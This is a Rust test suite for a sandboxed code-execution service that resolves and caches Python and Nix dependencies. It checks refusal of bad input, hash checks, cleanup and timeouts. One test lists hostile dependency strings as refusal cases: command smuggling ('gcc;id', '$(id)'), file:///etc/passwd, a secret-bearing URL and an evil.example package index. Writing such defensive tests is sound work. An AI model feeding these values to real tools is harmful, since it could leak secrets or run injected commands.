//! What a user may write into a task, and what comes of it.

use std::os::unix::fs::PermissionsExt;

use hybrid_cache_model::task::MAX_CODE_BYTES;
use hybrid_cache_model::{CacheStatus, FailureKind, TaskSpec};

use crate::bench::{Bench, difference, is_built, machine, machine_with_nix, python, system};

/// Every one of these did harm to some tool once; none may reach a process.
const HOSTILE: [&str; 14] = [
    "-e ./p",
    "-r /etc/hostname",
    "--index-url=file:///srv/simple",
    "x @ file:///etc/passwd",
    "foo @ http://u:${SECRET}@host.example/",
    "git+https://host.example/x",
    "./local",
    "/etc/passwd",
    "..\\x",
    "numpy ; import os",
    "numpy\\\n--index-url x",
    "numpy --hash=sha256:0",
    "${HOME}",
    "numpy\u{0}",
];

/// Calls a console script by its name, then without any variable; the `python` in the current folder must not run.
const CONSOLE_SCRIPTS: &str = r##"
import os, shutil, subprocess
with open("python", "w") as file:
    file.write("#!/bin/sh\necho stranger\n")
os.chmod("python", 0o755)
said = subprocess.run(["black", "--version"], capture_output=True, text=True, check=True).stdout
print(said.splitlines()[0])
os.symlink(shutil.which("black"), "linked")
for call in ([shutil.which("black")], ["./linked"]):
    bare = subprocess.run([*call, "--version"], env={}, capture_output=True, text=True, check=True).stdout
    assert bare.splitlines()[0].split()[1:] == said.splitlines()[0].split()[1:], bare
assert subprocess.run(["realpath", "."], capture_output=True, text=True, check=True).stdout.strip() == os.getcwd()
"##;

#[tokio::test]
async fn what_is_refused_is_refused_before_any_process_starts() {
    let test = "what_is_refused_is_refused_before_any_process_starts";
    let Some(mut config) = machine(test) else { return };
    let folder = tempfile::tempdir().unwrap();
    // Replaces the program with which every process of a task would start, so that a start is noticed.
    let (program, witness) = (folder.path().join("bwrap"), folder.path().join("started"));
    std::fs::write(&program, format!("#!/bin/sh\n: >>{}\nexit 1\n", witness.display())).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    config.bubblewrap = vec![program.display().to_string()];
    let bench = Bench::empty(config);
    let before = bench.listing();
    for line in HOSTILE {
        let in_file = TaskSpec {
            requirements_file: format!("idna\n{line}\n"),
            ..TaskSpec::new("print(1)")
        };
        let reported = bench.refused(&in_file).await;
        assert!(reported.starts_with("/requirementsFile line "), "{line}: {reported}");
        let reported = bench.refused(&python(line, "print(1)")).await;
        assert!(reported.contains("/dependencies: "), "{line}: {reported}");
    }
    for name in ["gcc;id", "-f", "../x", "nixpkgs#$(id)", "github:x/y#z", "gcc make"] {
        let reported = bench.refused(&system(name, "print(1)")).await;
        assert!(reported.starts_with("/systemDependencies"), "{name}: {reported}");
    }
    let elsewhere = TaskSpec {
        requirements_file: "-i https://evil.example/simple\nidna\n".to_owned(),
        ..TaskSpec::new("print(1)")
    };
    assert!(bench.refused(&elsewhere).await.contains("is not the one in use"));
    assert!(bench.refused(&TaskSpec::new("")).await.contains("the code is empty"));
    assert!(
        bench
            .refused(&TaskSpec::new("#".repeat(MAX_CODE_BYTES + 1)))
            .await
            .contains("bytes")
    );
    assert!(!witness.exists(), "a process was started for a task that was refused");
    assert_eq!(difference(&before, &bench.listing()), Vec::<String>::new());
    // The witness works: a good task does start something.
    bench.run(&TaskSpec::new("print(1)")).await;
    assert!(witness.exists());
}

#[tokio::test]
async fn a_mebibyte_of_code_works() {
    let Some(config) = machine("a_mebibyte_of_code_works") else {
        return;
    };
    let bench = Bench::shared(config);
    let end = "\nprint('the end')";
    // Quotation marks, so that the text doubles on its way as JSON.
    let code = format!("#{}{end}", "\"".repeat(MAX_CODE_BYTES - end.len() - 1));
    assert_eq!(bench.run(&TaskSpec::new(code)).await.good(), "the end");
}

#[tokio::test]
async fn what_programs_expect_of_a_machine_is_there() {
    let Some(config) = machine("what_programs_expect_of_a_machine_is_there") else {
        return;
    };
    let bench = Bench::shared(config);
    let code = r#"
import getpass, multiprocessing, multiprocessing.shared_memory, os, pathlib, random, socket, ssl, tempfile, zoneinfo
def square(n): return n * n
if __name__ == "__main__":
    with multiprocessing.Pool(2) as pool:
        assert pool.map(square, range(4)) == [0, 1, 4, 9]
    shared = multiprocessing.shared_memory.SharedMemory(create=True, size=4096)
    shared.close(); shared.unlink()
    for folder in (pathlib.Path.home(), pathlib.Path.cwd(), pathlib.Path(tempfile.gettempdir()), pathlib.Path("/tmp")):
        (folder / "a").write_text("x")
    assert getpass.getuser() == "task" and os.getuid() != 0, (getpass.getuser(), os.getuid())
    assert socket.gethostbyname("localhost") == "127.0.0.1"
    os.urandom(8), open("/dev/null", "w").write("x"), ssl.create_default_context()
    print("all there")
"#;
    assert_eq!(bench.run(&TaskSpec::new(code)).await.good(), "all there");
}

#[tokio::test]
async fn a_wrong_hash_ends_a_task_before_its_code_also_if_the_package_is_cached() {
    let test = "a_wrong_hash_ends_a_task_before_its_code_also_if_the_package_is_cached";
    let Some(config) = machine(test) else { return };
    let bench = Bench::empty(config);
    let idna = |hash: &str| TaskSpec {
        requirements_file: format!("idna==3.10{hash}\n"),
        ..TaskSpec::new("import idna; print('it runs')")
    };
    let wrong = idna(&format!(" --hash=sha256:{}", "0".repeat(64)));
    for _ in 0..2 {
        let ran = bench.run(&wrong).await;
        let failure = ran.failed(FailureKind::Unsatisfiable);
        assert!(failure.message.contains("Hash mismatch for `idna==3.10`"), "{failure}");
        assert_eq!(bench.run(&idna("")).await.good(), "it runs");
    }
    // Computed by uv; the request with the hash has an environment of its own, and hits it.
    let failure = bench
        .run(&wrong)
        .await
        .failed(FailureKind::Unsatisfiable)
        .message
        .clone();
    let computed = failure
        .split("sha256:")
        .last()
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap();
    let right = idna(&format!(" --hash=sha256:{computed}"));
    assert!(is_built(bench.run(&right).await.python()));
    assert_eq!(bench.run(&right).await.python(), CacheStatus::Hit);
}

#[tokio::test]
async fn requirements_of_both_fields_combine() {
    let Some(config) = machine("requirements_of_both_fields_combine") else {
        return;
    };
    let bench = Bench::shared(config);
    let mut spec = python("idna", "import idna, packaging; print('both')");
    spec.requirements_file = "# from a file\npackaging>=21 ; python_version >= '3'\n\nidna>=3\n".to_owned();
    let first = bench.run(&spec).await;
    assert_eq!(first.good(), "both");
    let names = |pins: &[String]| {
        pins.iter()
            .map(|pin| pin.split("==").next().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&first.outcome.resolved.python), ["idna", "packaging"]);
    let again = bench.run(&spec).await;
    assert_eq!(again.good(), "both");
    assert_eq!(again.python(), CacheStatus::Hit);
    assert_eq!(again.outcome.resolved, first.outcome.resolved);
}

#[tokio::test]
async fn packages_that_do_not_exist_are_named() {
    let Some(config) = machine("packages_that_do_not_exist_are_named") else {
        return;
    };
    let bench = Bench::shared(config);
    let name = "hybrid-cache-has-no-such-package";
    let ran = bench.run(&python(&format!("idna,{name}"), "print(1)")).await;
    assert!(ran.failed(FailureKind::UnknownPackage).message.contains(name));
    assert_eq!(ran.stdout, "");
    let found = bench.verify().await;
    assert!(found.is_clean(), "{found:?}");
}

#[tokio::test]
async fn a_conflict_of_requirements_is_reported_in_uvs_words() {
    let Some(config) = machine("a_conflict_of_requirements_is_reported_in_uvs_words") else {
        return;
    };
    let bench = Bench::shared(config);
    let mut spec = python("idna==3.6", "print(1)");
    spec.requirements_file = "idna==3.7\n".to_owned();
    let ran = bench.run(&spec).await;
    let reported = ran.failed(FailureKind::Unsatisfiable).to_string();
    assert!(
        reported.contains("idna==3.6") && reported.contains("idna==3.7") && reported.contains("unsatisfiable"),
        "{reported}"
    );
}

#[tokio::test]
async fn an_unknown_system_name_comes_with_a_similar_one() {
    let Some(config) = machine_with_nix("an_unknown_system_name_comes_with_a_similar_one") else {
        return;
    };
    let bench = Bench::shared(config);
    for (asked, meant) in [("gnumak", "gnumake"), ("pkg-confg", "pkg-config"), ("crul", "curl")] {
        let ran = bench.run(&system(asked, "print(1)")).await;
        let reported = ran.failed(FailureKind::UnknownSystemPackage).to_string();
        assert!(
            reported.contains(&format!("did you mean {meant}?")) && reported.contains(asked),
            "{reported}"
        );
    }
}

#[tokio::test]
async fn the_names_people_use_bring_the_programs_they_mean() {
    let Some(config) = machine_with_nix("the_names_people_use_bring_the_programs_they_mean") else {
        return;
    };
    let bench = Bench::shared(config);
    let code = r#"
import subprocess
for name in "gcc g++ make cmake pkg-config git curl wget python3".split():
    said = subprocess.run([name, "--version"], capture_output=True, text=True, check=True)
    print(name, (said.stdout or said.stderr).splitlines()[0])
"#;
    let spec = system("gcc,g++,make,cmake,pkg-config,git,curl,wget,python3", code);
    let first = bench.run(&spec).await;
    let lines: Vec<&str> = first.good().lines().collect();
    assert_eq!(lines.len(), 9, "{lines:?}");
    assert!(is_built(first.system()), "{:?}", first.system());
    // `g++` is in `gcc`: eight packages for nine names.
    assert_eq!(
        first.outcome.resolved.system.len(),
        8,
        "{:?}",
        first.outcome.resolved.system
    );
    let again = bench.run(&spec).await;
    assert_eq!((again.good(), again.system()), (first.good(), CacheStatus::Hit));
}

#[tokio::test]
async fn console_scripts_run_from_staging_and_from_the_cache() {
    let Some(config) = machine("console_scripts_run_from_staging_and_from_the_cache") else {
        return;
    };
    let bench = Bench::empty(config);
    let spec = python("black", CONSOLE_SCRIPTS);
    let first = bench.run(&spec).await;
    assert!(is_built(first.python()), "{:?}", first.python());
    assert!(first.good().starts_with("black, "), "{}", first.good());
    let again = bench.run(&spec).await;
    assert_eq!((again.good(), again.python()), (first.good(), CacheStatus::Hit));
}

#[tokio::test]
async fn a_run_that_bypasses_the_caches_leaves_nothing_behind() {
    let Some(config) = machine_with_nix("a_run_that_bypasses_the_caches_leaves_nothing_behind") else {
        return;
    };
    let bench = Bench::empty(config);
    let before = bench.listing();
    let mut spec = python(
        "idna",
        "import idna, subprocess; print(subprocess.run(['m4', '--version']).returncode)",
    );
    spec.system_dependencies = "m4".to_owned();
    spec.use_cache = false;
    let ran = bench.run(&spec).await;
    assert!(ran.good().ends_with('0'), "{}", ran.stdout);
    assert_eq!(
        (ran.python(), ran.system()),
        (CacheStatus::Bypassed, CacheStatus::Bypassed)
    );
    assert_eq!(difference(&before, &bench.listing()), Vec::<String>::new());
    // Nor does one that fails on the way.
    spec.dependencies = "hybrid-cache-has-no-such-package".to_owned();
    let failed = bench.run(&spec).await;
    failed.failed(FailureKind::UnknownPackage);
    assert_eq!(
        (failed.python(), failed.system()),
        (CacheStatus::Bypassed, CacheStatus::Bypassed)
    );
    assert_eq!(difference(&before, &bench.listing()), Vec::<String>::new());
}

#[tokio::test]
async fn a_cancelled_bypass_leaves_nothing_behind_either() {
    use hybrid_cache_driver::Driver;
    let Some(config) = machine("a_cancelled_bypass_leaves_nothing_behind_either") else {
        return;
    };
    let bench = Bench::empty(config);
    let before = bench.listing();
    let mut spec = python("numpy", "print(1)");
    spec.use_cache = false;
    for _ in 0..3 {
        let ticket = bench.submit(&spec).await;
        // In the midst of it: uv has begun to fill its folder.
        let busy = || crate::roles::count_below(&bench.config.root.join("bypass"), 40);
        crate::roles::until("uv fills its folder", busy).await;
        bench.driver.cancel(&ticket).await.unwrap();
        let ran = bench.finish(&ticket).await;
        assert_eq!(ran.outcome.end, hybrid_cache_model::End::Cancelled);
        assert_eq!(ran.outcome.warnings, Vec::<String>::new());
        assert_eq!(difference(&before, &bench.listing()), Vec::<String>::new());
    }
}

/// Everything that a program gets beside its packages, first and cached: none of it belongs to the environment.
#[tokio::test]
async fn arguments_variables_input_and_a_time_limit_reach_the_program() {
    let test = "arguments_variables_input_and_a_time_limit_reach_the_program";
    let Some(config) = machine(test) else { return };
    let bench = Bench::empty(config);
    let code = "import os, sys, idna\nprint(sys.argv[1:], os.environ['OPEN'], os.environ['TOKEN'], sys.stdin.read())";
    let mut spec = python("idna", code);
    for (number, word) in ["one", "two"].into_iter().enumerate() {
        spec.args = vec![word.to_owned(), "--flag".to_owned()];
        spec.stdin = format!("typed {word}");
        spec.env.insert("OPEN".to_owned(), word.to_owned());
        spec.secret_env.insert("TOKEN", format!("hush {word}"));
        spec.labels.insert("team".to_owned(), word.to_owned());
        let ran = bench.run(&spec).await;
        assert_eq!(
            ran.stdout,
            format!("['{word}', '--flag'] {word} hush {word} typed {word}\n"),
            "{}",
            ran.stderr
        );
        assert_eq!(
            ran.outcome.cache.python == CacheStatus::Hit,
            number == 1,
            "{:?}",
            ran.outcome
        );
        let reported = format!("{:?} {}", ran.outcome, serde_json::to_string(&ran.outcome).unwrap());
        assert!(!reported.contains("hush"), "{reported}");
    }
    let mut slow = TaskSpec::new("import time; time.sleep(600)");
    slow.timeout_seconds = Some(1);
    let ran = bench.run(&slow).await;
    assert_eq!(ran.outcome.end, hybrid_cache_model::End::TimedOut { limit_ms: 1000 });
}
